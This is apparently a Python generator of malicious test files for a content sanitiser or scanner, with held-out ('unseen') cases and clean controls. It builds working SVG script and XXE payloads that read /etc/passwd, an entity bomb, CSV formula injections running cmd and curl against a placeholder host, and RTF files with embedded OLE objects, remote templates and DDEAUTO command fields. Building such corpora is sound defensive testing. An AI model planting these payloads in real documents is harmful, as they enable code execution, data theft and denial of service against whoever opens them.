"""Attacks in HTML, SVG, text tables, RTF and messages."""

from attack import HOST, Attack
from attack_html import JS, html, page
from attack_mail import attached, mail, mixed
from attack_word import OLE, PNG


def drawing(inner: str, attributes: str = "", before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" {attributes}><rect width="9" height="9" fill="red"/>{inner}</svg>'.encode()


def svg():
    yield "script", drawing(f"<script>{JS}</script>")
    yield "script-href", drawing(f'<script xlink:href="http://{HOST}/x.js"/>')
    yield (
        "script-prefix",
        drawing("").replace(
            b"</svg>", f'<q:script xmlns:q="http://www.w3.org/2000/svg">{JS}</q:script></svg>'.encode()
        ),
    )
    yield "script-cdata", drawing(f"<script><![CDATA[{JS}]]></script>")
    yield "onload", drawing("", f'onload="{JS}"')
    yield (
        "foreign",
        drawing(
            f'<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://{HOST}/"/></foreignObject>'
        ),
    )
    yield "image", drawing(f'<image href="http://{HOST}/x.png" width="9" height="9"/>')
    yield "image-file", drawing('<image href="file:///etc/passwd" width="9" height="9"/>')
    yield "use", drawing(f'<use xlink:href="http://{HOST}/x.svg#a"/>')
    yield "style-import", drawing(f"<style>@import url(http://{HOST}/x.css);</style>")
    yield "fill-url", drawing(f'<rect width="9" height="9" fill="url(http://{HOST}/x#a)"/>')
    yield "filter-image", drawing(f'<filter id="f"><feImage href="http://{HOST}/x"/></filter>')
    yield "link", drawing(f'<a xlink:href="javascript:{JS}"><rect width="9" height="9"/></a>')
    yield "animate", drawing(f'<a><animate attributeName="href" to="javascript:{JS}"/><rect width="9" height="9"/></a>')
    yield "set", drawing(f'<set attributeName="onclick" to="{JS}"/>')
    yield "handler", drawing(f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{JS}</handler>')
    yield "xxe", drawing("<text>&x;</text>", "", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    yield (
        "bomb",
        drawing(
            "<text>&c;</text>",
            "",
            '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]>',
        ),
    )
    yield "stylesheet", drawing("", "", f'<?xml-stylesheet href="http://{HOST}/x.css"?>')
    yield "use-loop", drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/><use href="#a"/></g>')


def tables():
    evil = [
        f'=HYPERLINK("http://{HOST}")',
        f"=cmd|'/c curl {HOST}'!A0",
        "+cmd|'/c calc'!A0",
        "-cmd|'/c calc'!A0",
        "@SUM(1+1)*cmd|'/c calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝cmd|'/c calc'!A0",
        "＋cmd|'/c calc'!A0",
        "－cmd|'/c calc'!A0",
        "＠SUM(1)",
        " =1+1",
        '="a"&WEBSERVICE("x")',
        '=1+1";=2+2',
        "-2+3+cmd|' /C calc'!A0",
        "%0A-3+3+cmd|'!A0",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "−SUM(1)",
    ]
    for n, text in enumerate(evil):
        quoted = '"' + text.replace('"', '""') + '"'
        yield f"cell-{n:02}", f"氏名,金額\r\n磯部,{quoted}\r\n".encode()
    yield "first", f"{evil[1]},a\n".encode()
    yield "cp932", f"氏名,値\r\n磯部,{evil[1]}\r\n".encode("cp932")
    yield "utf16", f"氏名\t値\r\n磯部\t{evil[1]}\r\n".encode("utf-16")
    yield "semicolon", f"氏名;値\r\n磯部;{evil[1]}\r\n".encode()
    yield "quote-inside", f'a,"b\n=1+1",{evil[1]}\n'.encode()
    yield "lone-quote", f'a,b"\n{evil[1]},"x\n'.encode()
    yield "lone-return", f"a,b\r{evil[1]},x\r".encode()
    yield "sylk", f"ID;P\nC;X1;Y1;E{evil[1][1:]}\nE\n".encode()
    yield "space-quote", f'a, "{evil[0]}"\n'.encode()


def rtf():
    def made(inner: str) -> bytes:
        return ("{\\rtf1\\ansi\\ansicpg932 Shiomi\\par " + inner + "}").encode("cp932")

    data = OLE.hex()
    yield "object", made("{\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 01050000" + data + "}{\\result x}}")
    yield "object-update", made("{\\object\\objautlink\\objupdate{\\*\\objdata 01050000" + data + "}}")
    yield "object-split", made("{\\object{\\*\\objdata 0105{\\par}0000\n" + "\n".join(data) + "}}")
    yield "object-bin", made("{\\object{\\*\\objdata\\bin8 MZ\x01\x02\x03\x04\x05\x06}}")
    yield "object-quote", made("{\\object{\\*\\objdata \\'01\\'05\\'00\\'00" + data + "}}")
    yield "object-upr", made("{\\upr{a}{\\*\\ud{\\object{\\*\\objdata 0105" + data + "}}}}")
    yield "template", made("{\\*\\template http://" + HOST + "/x.dotm}")
    yield "template-unicode", made("{\\*\\template " + "".join(f"\\u{ord(sign)}?" for sign in f"http://{HOST}") + "}")
    yield "field-dde", made("{\\field{\\*\\fldinst DDEAUTO cmd " + HOST + "}{\\fldrslt x}}")
    yield "field-split", made("{\\field{\\*\\fldinst {\\b DDE}{\\i AUTO} cmd " + HOST + "}{\\fldrslt x}}")
    yield "field-include", made('{\\field{\\*\\fldinst INCLUDEPICTURE "http://' + HOST + '/x" \\\\d}{\\fldrslt x}}')
    yield "behind", made("") + b"MZ" + HOST.encode()
    yield "short-head", made("").replace(b"{\\rtf1", b"{\\rt") + b"{\\object\\objdata 0105}"
    yield "html", made("{\\*\\htmltag <script src=//" + HOST + "></script>}")
    yield "datastore", made("{\\*\\datastore " + data + "}")


UNSEEN = set(
    "html/utf7 html/shift-jis-tail html/iso-2022-jp svg/use-loop csv/cell-15 csv/sylk csv/cell-19 html/script-null html/script-broken eml/boundary-twice html/style-comment html/frame csv/space-quote eml/header-injected".split()
)


def attacks():
    for folder, make in (("html", html), ("svg", svg), ("csv", tables), ("rtf", rtf), ("eml", mail)):
        for name, data in make():
            full = f"{folder}/{name}"
            yield Attack(
                f"{full}.{folder}",
                name,
                data,
                seen=full not in UNSEEN,
                shown=folder in ("csv",)
                or full.startswith(
                    (
                        "html/utf7",
                        "eml/type-twice",
                        "html/script-broken",
                        "html/iso",
                        "html/xml-island",
                        "html/script-noscript",
                        "html/script-slash",
                        "html/shift",
                    )
                ),
            )
    yield Attack("html/plain.html", "nothing", page('<a href="https://city.example/">市</a>'), control=True, seen=False)
    yield Attack("svg/plain.svg", "nothing", drawing(""), control=True, seen=False)
    yield Attack(
        "csv/plain.csv", "nothing", "氏名,差\r\n磯部,-12\r\n灘波,+3.5%\r\n".encode("cp932"), control=True, seen=False
    )
    yield Attack("rtf/plain.rtf", "nothing", b"{\\rtf1\\ansi Shiomi\\par}", seen=False)
    yield Attack("eml/plain.eml", "nothing", mixed(attached("a.png", PNG, "image/png")), control=True, seen=False)
